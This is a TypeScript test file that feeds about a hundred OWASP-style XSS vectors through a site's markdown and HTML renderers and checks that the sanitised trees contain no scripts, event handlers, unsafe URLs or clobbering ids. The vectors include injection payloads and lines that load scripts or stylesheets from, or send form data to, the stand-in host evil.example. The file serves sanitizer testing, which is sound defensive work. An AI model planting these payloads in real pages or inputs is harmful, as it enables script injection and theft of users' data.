/**
 * Hostile markup of the kinds listed in the OWASP XSS filter evasion cheat sheet and in sanitizer test
 * suites, written out here for this project. Each vector goes through both body pipelines (markdown and
 * .html posts); the rendered tree, and the tree a browser would parse from its serialisation, must hold
 * nothing that can run script, load a foreign document, restyle the page, submit a form or navigate.
 */
import type { Element, Root } from 'hast';
import { describe, expect, test } from 'vitest';
import { renderHtml, renderMarkdown } from '@/lib/content/render/render-markdown';
import { isAllowedVideoUrl } from '@/lib/content/render/video-embeds';
import { elements, html, parseHtml } from './support/posts';

const VECTORS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=javascript:alert(1)>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert(1)`>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>',
  '<IMG SRC="jav\tascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  '<IMG DYNSRC="javascript:alert(1)">',
  '<IMG LOWSRC="javascript:alert(1)">',
  '<img src="x" onload="alert(1)" onmouseover="alert(2)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<BODY ONLOAD=alert(1)>',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<BGSOUND SRC="javascript:alert(1);">',
  '<BR SIZE="&{alert(1)}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  '<LINK REL="stylesheet" HREF="https://evil.example/xss.css">',
  '<STYLE>@import\'https://evil.example/xss.css\';</STYLE>',
  '<META HTTP-EQUIV="Link" Content="<https://evil.example/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("https://evil.example/xss.xml#xss")}</STYLE>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
  '<STYLE TYPE="text/javascript">alert(1);</STYLE>',
  '<DIV STYLE="background-image: url(javascript:alert(1))">',
  '<DIV STYLE="width: expression(alert(1));">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=https://evil.example/">',
  '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
  '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(1)">',
  '<TD BACKGROUND="javascript:alert(1)">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml"></EMBED>',
  '<BASE HREF="javascript:alert(1);//">',
  '<base href="https://evil.example/">',
  '<a href="javascript:alert(1)">link</a>',
  '<a href="JAVASCRIPT:alert(1)">link</a>',
  '<a href=" javascript:alert(1)">link</a>',
  '<a href="java&#x09;script:alert(1)">link</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">link</a>',
  '<a href="vbscript:msgbox(1)">link</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
  '<a href="https://example.com" target="_top" onclick="alert(1)">link</a>',
  '[클릭](javascript:alert(1))',
  '[클릭](<javascript:alert(1)>)',
  '![사진](javascript:alert(1))',
  '[클릭](data:text/html,<script>alert(1)</script>)',
  '<form action="https://evil.example/steal"><input name="pw"><button formaction="javascript:alert(1)">go</button></form>',
  '<isindex action="javascript:alert(1)" type="image">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<div id="__next">clobber</div><form name="getElementById"></form>',
  '<img name="cookie" id="location">',
  '<a href="https://evil.example" id="defaultView">x</a>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">덮어쓰기</p>',
  '<div class="site-header">가짜 머리글</div>',
  '<object data="javascript:alert(1)"></object>',
  '<applet code="x"></applet>',
  '<portal src="https://evil.example"></portal>',
  '<embed src="javascript:alert(1)">',
  '<img src="https://evil.example/track.gif" srcset="javascript:alert(1) 1x">',
  '<img src="//evil.example/x.png" onerror="fetch(\'//evil.example\')">',
  '<a href="#" onfocus="alert(1)" autofocus>x</a>',
  '<x onclick=alert(1)>click</x>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<math href="javascript:alert(1)">CLICKME</math>',
  '<blockquote cite="javascript:alert(1)">인용</blockquote>',
  '<q cite="javascript:alert(1)">인용</q>',
  '<time datetime="2024" onmouseover="alert(1)">시각</time>',
  '<table><tr><td onmouseover="alert(1)">칸</td></tr></table>',
  '<h2 onclick="alert(1)">제목</h2>',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '{{ "<script>alert(1)</script>" }}',
  '{% raw %}<script>alert(1)</script>{% endraw %}',
  '<scr\u200bipt>alert(1)</scr\u200bipt>',
  '<img src=x on\u200berror=alert(1)>',
];

const FORBIDDEN_ELEMENTS = new Set([
  'script', 'style', 'object', 'embed', 'applet', 'form', 'input', 'button', 'textarea', 'select', 'base',
  'meta', 'link', 'svg', 'math', 'frame', 'frameset', 'portal', 'template', 'noscript', 'title', 'body',
  'head', 'html', 'isindex', 'video', 'audio', 'source', 'marquee', 'bgsound', 'xmp',
]);
const URL_PROPERTIES = ['href', 'src', 'action', 'formAction', 'cite', 'data', 'background', 'dynsrc', 'lowsrc', 'srcSet', 'xLinkHref'];
const SAFE_URL = /^(https?:|mailto:|tel:|\/|#|\.|[^:]*$)/i;

function offences(tree: Root): string[] {
  const found: string[] = [];
  const visit = (node: Root | Element) => {
    for (const child of node.children) {
      if (child.type !== 'element') continue;
      if (FORBIDDEN_ELEMENTS.has(child.tagName)) found.push(`<${child.tagName}>`);
      if (child.tagName === 'iframe' && !isAllowedVideoUrl(child.properties.src)) found.push(`iframe ${String(child.properties.src)}`);
      if (child.tagName === 'iframe' && child.properties.sandbox === undefined) found.push('iframe without sandbox');
      for (const [name, value] of Object.entries(child.properties)) {
        if (/^on/i.test(name)) found.push(`${child.tagName}[${name}]`);
        if (['style', 'className', 'target', 'srcDoc', 'formAction', 'autoFocus'].includes(name) && !(name === 'className' && child.tagName === 'code')) {
          found.push(`${child.tagName}[${name}]`);
        }
        if (name === 'id' || name === 'name') {
          if (!String(value).startsWith('user-content-')) found.push(`${child.tagName}[${name}=${String(value)}]`);
        }
        if (URL_PROPERTIES.includes(name) && !SAFE_URL.test(String(value).trim())) found.push(`${child.tagName}[${name}=${String(value)}]`);
      }
      visit(child);
    }
  };
  visit(tree);
  return found;
}

describe.each(VECTORS.map((vector, index) => [index + 1, vector] as const))('XSS vector %i', (_, vector) => {
  test.each([
    ['markdown', renderMarkdown],
    ['html', renderHtml],
  ] as const)('%s post: nothing can run, load, restyle, submit or navigate', (_kind, render) => {
    const tree = render(vector);
    expect(offences(tree)).toEqual([]);
    // What a browser builds from the served HTML must be just as clean (no mutation through serialising).
    expect(offences(parseHtml(html(tree)))).toEqual([]);
  });
});

describe('the vector list', () => {
  test('has at least 50 distinct vectors', () => {
    expect(new Set(VECTORS).size).toBe(VECTORS.length);
    expect(VECTORS.length).toBeGreaterThanOrEqual(50);
  });

  test('the checker itself notices an unsanitised tree (the test can fail)', () => {
    expect(offences(parseHtml('<img src=x onerror=alert(1)><script>1</script><a href="javascript:x">a</a>'))).toEqual([
      'img[onError]',
      '<script>',
      'a[href=javascript:x]',
    ]);
  });

  test('text content of the vectors may stay visible, as text', () => {
    expect(elements(renderMarkdown('<a href="javascript:alert(1)">link</a>'), 'a')[0]?.properties.href).toBeUndefined();
  });
});
